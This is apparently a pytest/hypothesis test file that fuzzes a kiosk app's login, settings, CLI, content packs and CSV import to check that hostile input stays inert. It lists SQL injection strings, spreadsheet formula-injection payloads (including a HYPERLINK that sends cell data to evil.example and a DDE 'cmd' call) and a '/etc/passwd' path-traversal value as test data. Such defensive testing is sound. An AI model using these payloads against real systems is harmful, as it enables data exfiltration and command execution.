"""Bad-input suites (hypothesis): login, settings, command-line arguments, content packs.

Whatever arrives, the kiosk does not crash, shows no traceback, says one clear
thing, and stores only clean values. SQL fragments and spreadsheet formulas typed
at the login screen stay inert all the way to the exported CSV.
"""

from __future__ import annotations

import contextlib
import csv
import io
import itertools
import shutil
import sqlite3
import sys
import unicodedata
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

import kiosk.cli
import kiosk.cli.run_cmd
from kiosk import access_log, export
from kiosk import settings as kiosk_settings
from kiosk.auth import GENERIC_FAILURE
from kiosk.course import ContentError, courses_root, load_course, pack_dirs
from tests.conftest import run_as

FIXTURE_OK = [HealthCheck.function_scoped_fixture, HealthCheck.too_slow]

NASTY = [
    "' OR 1=1 --",
    "admin'; DROP TABLE users; --",
    '" OR ""="',
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")",
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "%0A=1",
    "|calc",
    "\t=cmd",
    "\r\n=1",
    "a\0b",
    "\u202e" + "txt.exe",
    "\u200f=RTL",
    "\x1b[31mred\x1b[0m",
    "Zoë Llŷr 王",
    "x" * 10_000,
    "",
    " ",
    "\ud800",
]

# Every kind of character, including control, format (bidi), surrogate and private use.
ANY_CHAR = st.characters(codec=None, categories=None)
ANY_TEXT = st.text(ANY_CHAR, max_size=300)
FORMULA_STARTS = tuple(export.FORMULA_STARTS)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def cell_matches(cell: str, stored: str) -> bool:
    """A stored value reads back as itself, apostrophe-prefixed when it could be a formula."""
    if stored.startswith(FORMULA_STARTS):
        return cell == "'" + stored
    return cell == stored


# --- login -------------------------------------------------------------------------------

def expected_stored(ctx, typed: str) -> str:
    """What the log keeps of a typed username: as typed for an account, else its tag."""
    from kiosk import auth, users

    cleaned = access_log.clean_text(typed, access_log.USERNAME_CAP)
    if users.find(ctx.db, cleaned) is not None:
        return cleaned
    return auth.unknown_name_label(cleaned, ctx.auth._secret())


@pytest.fixture
def login_ctx(ctx, learner):
    ctx.settings.set("kiosk_failure_limit", "1000")  # many failures on purpose
    return ctx


@settings(max_examples=60, deadline=None, suppress_health_check=FIXTURE_OK)
@given(typed=ANY_TEXT | st.sampled_from(NASTY))
@example(typed="x" * 10_000)
def test_any_username_fails_generically_and_is_stored_clean(login_ctx, tmp_path, typed):
    """Any text as a username: a generic failure, a clean capped row, an inert CSV cell."""
    outcome = login_ctx.auth.login(typed, "definitely-not-the-password")
    assert not outcome.ok
    assert outcome.message == GENERIC_FAILURE
    row = login_ctx.db.execute(
        "SELECT id, username_entered FROM access_log ORDER BY id DESC LIMIT 1").fetchone()
    stored = row[1]
    # A name no account has is kept only as a keyed tag (it may be a password).
    assert stored == expected_stored(login_ctx, typed)
    assert len(stored) <= access_log.USERNAME_CAP
    assert not any(unicodedata.category(ch).startswith("C") for ch in stored)
    out = tmp_path / "log.csv"
    export.export_access_log(login_ctx.db, out)
    exported = {int(r["row_id"]): r for r in read_csv(out)}
    assert cell_matches(exported[row[0]]["username_entered"], stored)


@pytest.mark.parametrize("typed", [t for t in NASTY if "\0" not in t and "\ud800" not in t])
def test_nasty_username_typed_at_the_login_screen_is_inert_in_the_export(
        manager, learner, window, qtbot, run_kiosk, ctx, tmp_path, typed):
    """Typed at the real login screen: generic message; `kiosk export access-log` neutralises it."""
    from PySide6.QtCore import Qt

    ctx.settings.set("kiosk_failure_limit", "1000")
    screen = window.login
    screen.username.setText("")
    if typed.isascii() and typed.isprintable():
        qtbot.keyClicks(screen.username, typed[:200])
    else:
        screen.username.insert(typed)  # control and non-Latin characters arrive by pasting
    qtbot.keyClicks(screen.password, "wrong-password-123")
    qtbot.keyClick(screen.password, Qt.Key.Key_Return)
    assert screen.message.text() == GENERIC_FAILURE
    assert window.current_screen() == "login"
    stored = ctx.db.execute("SELECT username_entered FROM access_log ORDER BY id DESC LIMIT 1"
                            ).fetchone()[0]
    assert stored == expected_stored(ctx, screen.username.text())
    assert ctx.db.execute("SELECT COUNT(*) FROM users").fetchone()[0] == 2  # nothing dropped
    out = tmp_path / "exported.csv"
    result = run_as(run_kiosk, "export", "access-log", "--out", str(out), "--db",
                    str(ctx.db_path))
    assert result.returncode == 0, result.stderr
    rows = read_csv(out)
    failure = [r for r in rows if r["event"] == "login_failure"][-1]
    assert cell_matches(failure["username_entered"], stored)
    for r in rows:
        for value in r.values():
            assert not value.startswith(FORMULA_STARTS), value


# --- settings ----------------------------------------------------------------------------

def run_main(argv: list[str], stdin: str = "") -> tuple[int, str, str]:
    """kiosk.cli.main in this process, with its own stdin, stdout (with .buffer) and stderr."""
    out_bytes = io.BytesIO()
    out = io.TextIOWrapper(out_bytes, encoding="utf-8", errors="backslashreplace")
    err = io.StringIO()
    old_in = sys.stdin
    sys.stdin = io.StringIO(stdin)
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = kiosk.cli.main(argv)
            out.flush()
    finally:
        sys.stdin = old_in
    return code, out_bytes.getvalue().decode("utf-8", "replace"), err.getvalue()


def assert_clean_outcome(code: int, err: str) -> None:
    assert code in (0, 1, 2), (code, err)
    assert "Traceback" not in err
    assert "something unexpected went wrong" not in err, err
    if code == 1:
        lines = err.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("kiosk: error: "), err


def stored_settings_all_valid(db_path: Path) -> None:
    conn = sqlite3.connect(db_path)
    rows = conn.execute("SELECT key, value FROM settings").fetchall()
    conn.close()
    for key, value in rows:
        kiosk_settings.parse(key, value)  # raises if a bad value was ever stored


@settings(max_examples=80, deadline=None, suppress_health_check=FIXTURE_OK)
@given(key=st.sampled_from([s.key for s in kiosk_settings.REGISTRY]) | ANY_TEXT,
       value=ANY_TEXT | st.sampled_from(NASTY) | st.integers().map(str))
def test_settings_set_any_text(ctx, key, value):
    """`kiosk settings set KEY VALUE` with any text: 0, or one error line; stored values valid."""
    code, _, err = run_main(["settings", "set", "--db", str(ctx.db_path), key, value])
    assert_clean_outcome(code, err)
    if code == 2:
        assert key.startswith("-") or value.startswith("-")
    stored_settings_all_valid(ctx.db_path)
    assert access_log.verify_chain(ctx.db).ok


@pytest.mark.parametrize("key,value", [
    ("centre_name", "=HYPERLINK(\"http://x\")"),
    ("kiosk_id", "kiosk 1; DROP TABLE users"),
    ("idle_timeout_seconds", "1e9"),
    ("lockout_threshold", "٣"),  # an Arabic-Indic digit three: int() accepts it
    ("backup_keep", "-1"),
    ("require_all_sections", "maybe"),
    ("centre_name", "\u202eretneC"),
    ("no_such_key", "1"),
])
def test_settings_set_through_a_real_process(run_kiosk, ctx, key, value):
    """The same through a real `kiosk` process: clean exit code, no traceback, valid storage."""
    ctx.db.close()
    result = run_kiosk("settings", "set", "--db", str(ctx.db_path), "--", key, value)
    assert_clean_outcome(result.returncode, result.stderr)
    stored_settings_all_valid(ctx.db_path)


# --- command-line arguments --------------------------------------------------------------

WORDS = ["run", "users", "add", "list", "unlock", "disable", "settings", "get", "set",
         "export", "access-log", "log", "verify", "backup", "restore", "--db", "--out",
         "--since", "--until", "--role", "learner", "manager", "--name", "--job-title",
         "-h", "--help", "--version", "--windowed", "--exit-when-ready", "centre_name",
         "backup_keep", "2026-01-31", "2026-13-45", "data.db", "copy.db", "out.csv", "",
         "-", "--", "=1+1", "' OR 1=1 --"]
# Free text, minus path separators so a random path cannot point outside the test folder.
SAFE_TEXT = st.text(ANY_CHAR, max_size=30).filter(lambda t: "/" not in t and "\\" not in t
                                                   and ".." not in t)
ARGV = st.lists(st.sampled_from(WORDS) | SAFE_TEXT, max_size=8)


@pytest.fixture
def cli_sandbox(ctx, manager, monkeypatch, tmp_path):
    """The CLI in a sandbox: cwd and KIOSK_DB in tmp_path, and `run` never opens a window."""
    ctx.db.close()
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("KIOSK_DB", str(ctx.db_path))
    monkeypatch.setattr(kiosk.cli.run_cmd, "handle", lambda args: 0)
    return ctx.db_path


@settings(max_examples=150, deadline=None, suppress_health_check=FIXTURE_OK)
@given(argv=ARGV)
def test_random_arguments_in_process(cli_sandbox, argv):
    """Any argument list: exit 0, 1 or 2, never a traceback or an unexpected-error message."""
    code, _, err = run_main(argv, stdin="a-long-enough-password-99\n")
    assert_clean_outcome(code, err)


@settings(max_examples=8, deadline=None, suppress_health_check=FIXTURE_OK)
@given(argv=st.lists(st.sampled_from([w for w in WORDS if w not in ("run", "--windowed")])
                     | SAFE_TEXT.filter(lambda t: "\0" not in t and not any(
                         0xD800 <= ord(c) <= 0xDFFF for c in t)), min_size=1, max_size=6)
       .filter(lambda a: not a[0].startswith("-") or a[0] in ("-h", "--help", "--version")))
def test_random_arguments_in_a_real_process(cli_sandbox, run_kiosk, argv):
    """A few random argument lists through a real process: same promise, real argv."""
    result = run_kiosk(*argv, input="a-long-enough-password-99\n")
    assert result.returncode in (0, 1, 2), result.stderr
    assert "Traceback" not in result.stderr


# --- content packs -----------------------------------------------------------------------

@pytest.fixture
def pack_copy(tmp_path) -> Path:
    source = pack_dirs(courses_root())[0]
    target = tmp_path / "pack"
    shutil.copytree(source, target)
    load_course(target)  # the copy is good before it is broken
    return target


@settings(max_examples=40, deadline=None, suppress_health_check=FIXTURE_OK)
@given(which=st.sampled_from(["course.toml", "questions.toml", "contacts.toml"]),
       garbage=st.binary(max_size=600) | ANY_TEXT.map(lambda t: t.encode("utf-8", "replace")))
@example(which="course.toml", garbage=b"")
@example(which="questions.toml", garbage=b"questions = 5")
def test_garbage_in_a_pack_is_a_content_error(pack_copy, which, garbage):
    """Random bytes in a pack file: load_course raises ContentError, never anything else."""
    pack = fresh_copy(pack_copy)
    (pack / which).write_bytes(garbage)
    try:
        load_course(pack)
    except ContentError as exc:
        assert str(exc).strip()


def fresh_copy(pack: Path) -> Path:
    """Each example breaks its own copy: hypothesis runs many examples in one test call."""
    target = pack.parent / f"example-{next(_COPIES)}"
    shutil.copytree(pack, target)
    return target


_COPIES = itertools.count()

TOML_VALUES = st.sampled_from([
    "0", "-1", "99999999999999999999", "1.5", "nan", "true", "false", '""', '"x"',
    "[]", "[1, 2]", '["a", 5]', "{}", '{ a = 1 }', "1979-05-27", "1979-05-27T07:32:00Z",
    '"../../../etc/passwd"', '"=1+1"', "[[]]",
])


@settings(max_examples=60, deadline=None, suppress_health_check=FIXTURE_OK)
@given(which=st.sampled_from(["course.toml", "questions.toml", "contacts.toml"]),
       line_pick=st.integers(min_value=0), value=TOML_VALUES)
def test_wrong_kinds_of_value_in_a_pack_are_a_content_error(pack_copy, which, line_pick,
                                                            value):
    """A value of the wrong kind (valid TOML, wrong meaning): ContentError, nothing else."""
    pack = fresh_copy(pack_copy)
    path = pack / which
    lines = path.read_text(encoding="utf-8").splitlines()
    settable = [i for i, ln in enumerate(lines)
                if "=" in ln and not ln.lstrip().startswith(("#", "["))
                and not ln.rstrip().endswith(("[", "\"\"\"", "'''"))]
    index = settable[line_pick % len(settable)]
    key = lines[index].split("=", 1)[0]
    lines[index] = f"{key}= {value}"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with contextlib.suppress(ContentError):
        load_course(pack)


# ---------------------------------------------------------------- user import CSV files
KNOWN_GOOD_ROWS = [["zoe", "Zoë Ødegård", "learner"], ["=cmd|' /C calc'!A0", "x", ""],
                   ["llyr", "Llŷr Wyn", "king"]]
_CSV_CELLS = st.one_of(
    st.text(max_size=30),
    st.sampled_from(["=cmd|' /C calc'!A0", "@SUM(1)", "' OR 1=1 --", "learner", "manager",
                     "Zoë Ødegård", "Llŷr Wyn", "", "king", "a b", "x" * 70]),
)


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(header=st.lists(st.sampled_from(["username", "full_name", "role", "job_title",
                                        "Full Name", "password", "email", "", "USERNAME"]),
                       min_size=0, max_size=5),
       rows=st.lists(st.lists(_CSV_CELLS, max_size=6), max_size=6),
       delimiter=st.sampled_from([",", ";", "\t"]),
       encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16"]),
       junk=st.binary(max_size=40))
@example(header=["username", "full_name", "role"], rows=KNOWN_GOOD_ROWS,
         delimiter=",", encoding="utf-8-sig", junk=b"")
def test_user_import_any_file_gives_a_report_or_a_clear_error(
        tmp_path_factory, header, rows, delimiter, encoding, junk):
    """Any CSV a spreadsheet or a person could produce (wrong headers, formulas, odd
    encodings, stray bytes) gives a row-by-row report or one clear KioskError; accounts
    are only created from valid rows and nothing is half-written."""
    from kiosk import people_import
    from kiosk.context import open_context
    from kiosk.errors import KioskError

    folder = tmp_path_factory.mktemp("import")
    ctx = open_context(folder / "data.db")
    ctx.settings.set("centre_name", "Import Test Centre")
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(rows)
    path = folder / "people.csv"
    try:
        data = buf.getvalue().encode(encoding, errors="replace")
    except UnicodeError:
        data = buf.getvalue().encode("utf-8", errors="replace")
    path.write_bytes(data + junk)
    try:
        report = people_import.import_people(ctx.db, ctx.settings, ctx.clock, path)
    except KioskError as exc:
        assert str(exc) and "Traceback" not in str(exc)
        report = None
    created = ctx.db.execute("SELECT COUNT(*) FROM users").fetchone()[0]
    if report is not None:
        assert created == len(report.accepted)
        if rows == KNOWN_GOOD_ROWS and not junk:
            # One good row, a formula as a username and an unknown role: 1 added, 2 refused.
            assert created == 1 and len(report.rejected) == 2
        for rejected in report.rejected:
            assert rejected.describe()  # every rejection says why
    else:
        assert created == 0
    stored = [r[0] for r in ctx.db.execute("SELECT username FROM users")]
    assert all(" " not in name and name.strip() == name for name in stored)
    ctx.db.close()
